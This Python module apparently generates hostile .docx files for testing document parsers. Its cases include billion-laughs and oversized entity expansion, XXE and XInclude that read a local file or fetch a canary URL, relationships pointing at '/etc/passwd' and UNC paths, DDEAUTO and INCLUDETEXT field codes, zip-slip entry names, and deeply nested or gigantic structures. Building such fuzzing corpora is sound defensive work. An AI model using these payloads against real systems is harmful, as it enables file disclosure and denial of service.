"""Hostile Word documents."""
# ruff: noqa: E501 - a case stands as one row of its table, however long

from __future__ import annotations

from collections.abc import Callable
from random import Random

from campaigns.documents.document import TEXT, Bait, Document, packed
from campaigns.documents.word import (
    GOOD,
    NUMBERED,
    PACKAGE,
    RELS,
    TYPES,
    Case,
    R,
    W,
    cell,
    docx,
    nested,
    numbering,
    one,
    paragraph,
    span,
    table,
    with_part,
)


def word(chance: Random, bait: Bait) -> Document:
    """One hostile Word document."""
    what, data = chance.choice((_tables, _numbers, _styles, _deep, _external, _shapes))(
        chance, bait
    )
    return Document("docx", what, "方案.docx", data)


def _tables(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    n = chance.choice((10, 20, 60, 400))
    wide = chance.choice((10**4, 10**6, 10**9, 10**40))
    row = f"<w:tr>{cell(paragraph('a'))}{cell(paragraph('b'))}</w:tr>"
    start, more = "<w:vMerge w:val='restart'/>", "<w:vMerge/>"
    cases: tuple[Case, ...] = (
        (f"nested tables with merged rows, {n} deep", lambda: docx(GOOD + nested(n))),
        (f"nested tables, {n} deep", lambda: docx(GOOD + nested(n, merged=False))),
        (f"gridSpan {wide}", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('a'), span(wide))}</w:tr>" * 20))),
        (f"gridBefore {wide}", lambda: docx(GOOD + table(f"<w:tr><w:trPr><w:gridBefore w:val='{wide}'/></w:trPr>{cell(paragraph('a'))}</w:tr>"))),
        (f"gridAfter {wide}", lambda: docx(GOOD + table(f"<w:tr><w:trPr><w:gridAfter w:val='{wide}'/></w:trPr>{cell(paragraph('a'))}</w:tr>" + row))),
        ("rows", lambda: docx(GOOD + table(row * (n * 200)))),
        ("columns", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('a')) * (n * 100)}</w:tr>", n * 100))),
        ("a long merged column", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('长' * 3000), start)}{cell(paragraph('b'))}</w:tr>"
              + f"<w:tr>{cell(paragraph(''), more)}{cell(paragraph('b'))}</w:tr>" * (n * 50)))),
        ("a wide merge of long text", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('长' * 5000), span(60))}</w:tr>" * n, 60))),
        ("merges without a start", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('a'), more)}</w:tr>" * n))),
        ("cells in cells", lambda: docx(GOOD + table("<w:tr>" + "<w:tc>" * n + "</w:tc>" * n + "</w:tr>"))),
        ("negative spans", lambda: docx(GOOD + table(f"<w:tr>{cell(paragraph('a'), span(-5))}</w:tr>"))),
        ("many tables", lambda: docx(GOOD + (table(row) + paragraph("")) * (n * 20))),
    )  # fmt: skip
    return one(cases, chance)


def _numbers(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    level = chance.choice(
        (
            "decimal",
            "chineseCounting",
            "chineseCountingThousand",
            "lowerRoman",
            "upperLetter",
            "ideographTraditional",
            "bullet",
            "decimalEnclosedCircle",
            "nonsense",
            "upperRoman",
        )
    )
    start = chance.choice(
        ("9" * 20, "9" * 5000, "-1", "2147483648", "x", "", "3999999", "1000000000", "٣")
    )
    ring = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    ring_style = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="numbering" w:styleId="a"><w:pPr><w:numPr><w:numId w:val="1"/>'
        "</w:numPr></w:pPr></w:style></w:styles>"
    )
    deep = "".join(
        paragraph(
            "项",
            f"<w:numPr><w:ilvl w:val='{chance.choice((9, 99, 10**9, -1))}'/><w:numId w:val='1'/></w:numPr>",
        )
        for _ in range(9)
    )
    cases: tuple[Case, ...] = (
        (f"{level} from {start[:12]} ({len(start)} digits)", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, start)})),
        ("a numbering text of 1 MB", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, text="第%1条" * 200_000)})),
        ("a numbering text of 1 MB, many items", lambda: docx(NUMBERED * 200, parts={"word/numbering.xml": numbering(level, text="长" * 350_000 + "%1")})),
        ("numbering text of percent signs", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, text="%1%2%9%0" * 20_000)})),
        ("numbering that bites itself", lambda: docx(NUMBERED, parts={"word/numbering.xml": ring, "word/styles.xml": ring_style})),
        ("levels that are none", lambda: docx(deep, parts={"word/numbering.xml": numbering(level)})),
        ("many definitions", lambda: docx(NUMBERED, parts={"word/numbering.xml": f'<w:numbering xmlns:w="{W}">' + "".join(
            f'<w:abstractNum w:abstractNumId="{i}"/><w:num w:numId="{i}"><w:abstractNumId w:val="{i}"/></w:num>' for i in range(30_000)) + "</w:numbering>"})),
        ("many numbered items", lambda: docx(NUMBERED * 3000, parts={"word/numbering.xml": numbering(level)})),
    )  # fmt: skip
    return one(cases, chance)


def _styles(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    n = chance.choice((1, 2, 50, 5_000, 40_000))
    loop = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="heading {i}"/>'
        f'<w:basedOn w:val="s{(i + 1) % n}"/><w:link w:val="s{(i + 1) % n}"/></w:style>'
        for i in range(n)
    )
    chain = loop.replace('<w:basedOn w:val="s0"/><w:link w:val="s0"/></w:style>', "</w:style>")
    body = "".join(
        paragraph(line, "<w:pStyle w:val='s0'/><w:outlineLvl w:val='99999999999'/>")
        for line in TEXT
    )
    cases: tuple[Case, ...] = (
        (f"styles based on each other, a ring of {n}", lambda: docx(body, parts={"word/styles.xml": f'<w:styles xmlns:w="{W}">{loop}</w:styles>'})),
        (f"styles based on each other, a chain of {n}", lambda: docx(body, parts={"word/styles.xml": f'<w:styles xmlns:w="{W}">{chain}</w:styles>'})),
    )  # fmt: skip
    return one(cases, chance)


def _deep(chance: Random, bait: Bait) -> tuple[str, bytes]:
    n = chance.choice((300, 1_000, 20_000, 100_000))
    tag = chance.choice(
        ("w:sdt><w:sdtContent", "w:ins", "w:smartTag", "w:r", "w:p", "w:txbxContent", "a")
    )
    open_, close = f"<{tag}>", "".join(f"</{t}>" for t in reversed(tag.split("><")))
    laughs = "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    square = f'<!DOCTYPE x [<!ENTITY a "{"长" * 50_000}">]>'
    head = (
        f'<!DOCTYPE x SYSTEM "{bait.url("dtd")}" [<!ENTITY x SYSTEM "file://{bait.file}">'
        f'<!ENTITY % p SYSTEM "{bait.url("pe")}">%p;]>'
    )
    cases: tuple[Case, ...] = (
        (f"{tag} {n} deep", lambda: docx(GOOD + open_ * n + close * n)),
        (f"{tag} {n} deep, never closed", lambda: docx(GOOD + open_ * n)),
        ("entities that multiply", lambda: docx(GOOD + paragraph("&j;"), f'<!DOCTYPE x [<!ENTITY a "哈哈哈哈">{laughs}]>')),
        ("one large entity many times", lambda: docx(GOOD + paragraph("&a;" * 3_000), square)),
        ("entities from outside", lambda: docx(GOOD + paragraph("&x;"), head)),
        ("an attribute of 10 MB", lambda: docx(GOOD + f'<w:p w:x="{"x" * (10 << 20)}"/>')),
        ("100,000 attributes", lambda: docx(GOOD + "<w:p " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>")),
        ("100,000 namespaces", lambda: docx(GOOD + "<w:p " + " ".join(f'xmlns:n{i}="u{i}"' for i in range(100_000)) + "/>")),
        ("a text of 10 MB", lambda: docx(GOOD + paragraph("长" * (10 << 20 >> 2)))),
        ("300,000 paragraphs", lambda: docx(GOOD + paragraph("段") * 300_000)),
        ("a paragraph of 200,000 runs", lambda: docx(GOOD + "<w:p>" + "<w:r><w:t>字</w:t></w:r>" * 200_000 + "</w:p>")),
        ("XInclude", lambda: docx(GOOD + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.file}" parse="text"/>')),
        ("a style sheet", lambda: docx(GOOD, f'<?xml-stylesheet type="text/xsl" href="{bait.url("xsl")}"?>')),
        ("breaks", lambda: docx(GOOD + "<w:p><w:r>" + "<w:br/><w:tab/>" * 200_000 + "</w:r></w:p>")),
    )  # fmt: skip
    return one(cases, chance)


def _external(chance: Random, bait: Bait) -> tuple[str, bytes]:
    kind = chance.choice(
        (
            "image",
            "attachedTemplate",
            "oleObject",
            "hyperlink",
            "subDocument",
            "aFChunk",
            "frame",
            "officeDocument",
            "numbering",
            "styles",
            "customXml",
        )
    )
    target = chance.choice(
        (
            bait.url(kind),
            f"file://{bait.file}",
            "../../../../../../etc/passwd",
            f"\\\\127.0.0.1\\{kind}",
            str(bait.file),
            "http://[::1/",
            "word/../word/document.xml",
        )
    )
    mode = chance.choice((' TargetMode="External"', ""))
    rels = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId9" Type="{R}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    field = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code} "{bait.file}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in ("INCLUDETEXT", "DDEAUTO c:\\\\x", "INCLUDEPICTURE", "LINK")
    )
    body = GOOD + field + '<w:altChunk r:id="rId9"/><w:subDoc r:id="rId9"/>'
    where = chance.choice(
        ("word___rels__document.xml.rels", "_rels__.rels", "word___rels__settings.xml.rels")
    )
    name = {
        "word___rels__document.xml.rels": "word/_rels/document.xml.rels",
        "_rels__.rels": "_rels/.rels",
    }.get(where, "word/_rels/settings.xml.rels")
    return f"{kind} to {target[:40]} in {name}{mode}", with_part(docx(body), name, rels)


STRICT = f'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>{GOOD}</w:body></w:document>'


def _shapes(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    good = docx(GOOD)
    cases: tuple[Case, ...] = (
        ("no document part", lambda: packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS})),
        ("an empty document part", lambda: with_part(good, "word/document.xml", "")),
        ("a document part that is no XML", lambda: with_part(good, "word/document.xml", "\0\xff<")),
        ("content types that are none", lambda: with_part(good, "[Content_Types].xml", "<a/>")),
        ("relationships that are none", lambda: with_part(good, "_rels/.rels", "<a")),
        ("an encoding that is none", lambda: docx(GOOD).replace(b"UTF-8", b"UTF-9")),
        ("UTF-16 that is none", lambda: with_part(good, "word/document.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>')),
        ("UTF-7", lambda: with_part(good, "word/document.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-')),
        ("vbaProject", lambda: with_part(good, "word/vbaProject.bin", "x" * 1000)),
        ("an Excel name", lambda: with_part(good, "xl/workbook.xml", "<workbook/>")),
        ("a root of another kind", lambda: with_part(good, "word/document.xml", f'<w:body xmlns:w="{W}"/>')),
        ("the strict namespace", lambda: with_part(good, "word/document.xml", STRICT)),
        ("names that lead out", lambda: packed({"../../../evil.xml": "x", "/etc/passwd": "x", "word/document.xml": "x"})),
        ("footnotes", lambda: docx(GOOD, parts={"word/footnotes.xml": f'<w:footnotes xmlns:w="{W}">' + f'<w:footnote w:id="1">{paragraph("注")}</w:footnote>' * 50_000 + "</w:footnotes>"})),
    )  # fmt: skip
    return one(cases, chance)


FAMILIES: tuple[Callable[[Random, Bait], tuple[str, bytes]], ...] = (
    _tables, _numbers, _styles, _deep, _external, _shapes,
)  # fmt: skip
